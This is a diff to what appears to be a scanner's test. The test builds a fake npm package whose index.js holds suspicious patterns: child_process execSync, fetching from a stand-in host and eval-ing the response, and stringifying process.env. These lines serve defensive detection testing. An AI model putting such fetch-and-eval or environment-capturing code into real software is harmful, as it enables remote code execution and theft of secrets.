@@ -108,7 +108,7 @@ def test_npm_url_dependency_and_js_patterns(tmp_path):
             ("package/package.json", json.dumps(doc).encode()),
             (
                 "package/index.js",
-                b"const cp = require('child_process');\n"
+                b"const cp = require('child_process'); cp.execSync('git status');\n"
                 b"fetch('https://example.invalid').then(r => r.text()).then(t => eval(t));\n"
                 b"require('https').get('https://example.invalid');\n"
                 b"const d = JSON.stringify(process.env);\n",
